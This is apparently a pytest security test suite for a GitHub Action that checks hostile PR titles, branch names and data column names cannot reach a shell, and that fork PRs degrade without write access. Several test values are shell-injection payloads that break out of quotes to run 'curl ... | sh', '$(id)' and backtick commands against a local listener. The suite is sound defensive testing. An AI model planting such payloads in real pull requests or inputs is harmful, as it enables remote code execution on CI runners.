"""Security of the action under a real runner (act): hostile PR data runs nothing; fork PRs degrade.

A PR's title and branch name, and the column names of its data, are written by whoever
opened the PR. If any of them reached a shell unquoted (an expression in `run:`, an `eval`,
`shell=True`), the payloads below would call back to a listener on 127.0.0.1 or print the
output of `id`. The listener must see nothing, and the comment must show the text escaped.
"""

from __future__ import annotations

import json
import re
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from tests.e2e.conftest import Act, Repo, pr_event
from tests.support.github_server import GitHubServer


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection (the payloads' call-back)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    self.hits.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def md_escaped(text: str) -> str:
    """Return how the report must show `text`: code, table and math characters as references."""
    return text.replace("|", "&#124;").replace("`", "&#96;").replace("$", "&#36;")


def rename_column(project: Path, old: str, new: str) -> None:
    """Rename a data column everywhere the project names it: both CSVs, mlci.yaml, the suite."""
    for name in ("train", "test"):
        path = project / "data" / f"{name}.csv"
        pd.read_csv(path).rename(columns={old: new}).to_csv(path, index=False)
    config = project / "mlci.yaml"
    # Items of the YAML flow lists (data.slices, data.features), as a JSON (= YAML) string.
    text = re.sub(rf"(?<=[\[ ]){re.escape(old)}(?=[,\]])", lambda _: json.dumps(new), config.read_text())
    config.write_text(text)
    suite = project / "expectations" / "churn.json"

    def swap(value: object) -> object:
        if isinstance(value, dict):
            return {k: swap(v) for k, v in value.items()}
        if isinstance(value, list):
            return [swap(v) for v in value]
        return new if value == old else value

    suite.write_text(json.dumps(swap(json.loads(suite.read_text())), indent=2))


def test_the_payloads_would_call_the_listener_if_a_shell_ran_them(listener: Listener):
    # Guards the test below: pasted into a script the way `${{ github.event.pull_request.title }}`
    # in `run:` would paste it, the payload does reach the listener.
    port = listener.port
    inject = f'"; curl -s -m 5 http://127.0.0.1:{port}/x | sh; echo "'
    subprocess.run(["bash", "-c", f'echo "{inject}"'], capture_output=True, timeout=30)
    deadline = time.monotonic() + 5
    while not listener.hits and time.monotonic() < deadline:
        time.sleep(0.05)
    assert listener.hits and listener.hits[0].startswith(b"GET /x ")


@pytest.mark.slow
def test_hostile_title_branch_and_column_execute_nothing_and_render_escaped(
    act: Act, repo: Repo, github_server: GitHubServer, listener: Listener
):
    port = listener.port
    inject = f'"; curl http://127.0.0.1:{port}/x | sh; echo "'
    title = f"{inject} $(curl -s 127.0.0.1:{port}/d) `curl -s 127.0.0.1:{port}/b` $(id)"
    assert len(title) <= 120, "the report shows up to 120 characters of the title"
    # A branch name git accepts (no spaces: ${IFS} instead).
    branch = f'x";curl${{IFS}}127.0.0.1:{port}/r|sh;echo"$(id)`id`'
    column = f'"; curl http://127.0.0.1:{port}/c | sh; echo " $(id) `id`'
    rename_column(repo.project, "region", column)
    assert json.dumps(column) in repo.config.read_text()

    sha = repo.commit("Hostile names")
    github_server.add_pull(31, head_sha=sha, title=title, head_ref=branch)
    run = act("pr-check.yml", "pull_request", pr_event("opened", 31, sha, title=title, head_ref=branch))
    run.assert_ok()

    assert listener.hits == [], f"a payload ran: the listener on port {port} was called: {listener.hits}"
    assert "uid=" not in run.log, "the output of `id` appears in the log: a payload ran"
    (comment,) = github_server.comments(31)
    body = comment["body"]
    assert "uid=" not in body
    # The text is there, escaped: no raw backtick, `$(` or pipe from the payloads survives.
    assert md_escaped(title) in body, body[:2000]
    assert md_escaped(branch) in body, body[:2000]
    assert md_escaped(column)[:40] in body, body
    for raw in ("$(id)", "`id`", f"`curl -s 127.0.0.1:{port}/b`", "/x | sh"):
        assert raw not in body, f"{raw!r} reached the comment unescaped"
    act.assert_no_secret_in_logs()


@pytest.mark.slow
def test_a_fork_pr_with_a_read_only_token_passes_with_the_report_in_the_step_summary(
    act: Act, repo: Repo, github_server: GitHubServer
):
    sha = repo.commit("A contribution from a fork")
    github_server.add_pull(41, head_sha=sha, title="Contributed features", fork=True, user="contributor")
    event = pr_event("opened", 41, sha, title="Contributed features", head_repo="contributor/ml-repo")
    run = act("pr-check.yml", "pull_request", event, token=github_server.readonly_token)
    run.assert_ok()
    # act shows the ::warning:: workflow command mlci printed (GitHub shows it as an annotation).
    assert "::warning title=mlci::no PR comment (the token lacks `issues: write or pull-requests: write`)" in run.log
    assert "no commit status (the token lacks `statuses: write`): a pull request from a fork" in run.log
    assert "mlci · churn" in run.summary, "the report is not in the step summary"
    assert github_server.comments(41) == [] and github_server.statuses(sha) == []
    assert run.outputs["outcome"] == "success" and run.outputs["exit-code"] == "0"
    assert run.outputs["comment-url"] == ""
    act.assert_no_secret_in_logs()
